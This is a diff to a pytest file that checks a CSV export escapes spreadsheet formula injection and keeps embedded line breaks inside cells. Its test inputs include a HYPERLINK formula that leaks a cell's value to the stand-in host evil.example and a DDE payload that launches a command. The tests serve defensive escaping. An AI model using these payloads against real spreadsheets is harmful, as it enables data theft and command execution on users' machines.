@@ -20,7 +20,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def _read(text: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(text)))
+    return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
 @pytest.mark.parametrize("cell", [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\0=1"])
@@ -31,6 +31,12 @@ def test_hostile_text_is_escaped_and_kept(cell: str) -> None:
     out = _read(findings_csv([row]))[0]
     assert out["subject"] == "'" + cell and out["reason"] == "'" + cell + ": p95 3 %"  # nothing lost
     assert out["generated_at"] == t.isoformat() and out["value"] == ""  # missing stays empty, not 0
+
+
+def test_line_breaks_inside_a_cell_do_not_split_the_row() -> None:
+    cells = ["a\rb", "a\nb", "a\r\nb", 'say "hi", then go']
+    got = _read(findings_csv([{"subject": c, "kind": "k"} for c in cells]))
+    assert [r["subject"] for r in got] == cells and all(r["kind"] == "k" for r in got)
 
 
 def test_numbers_stay_numbers_even_negative() -> None:
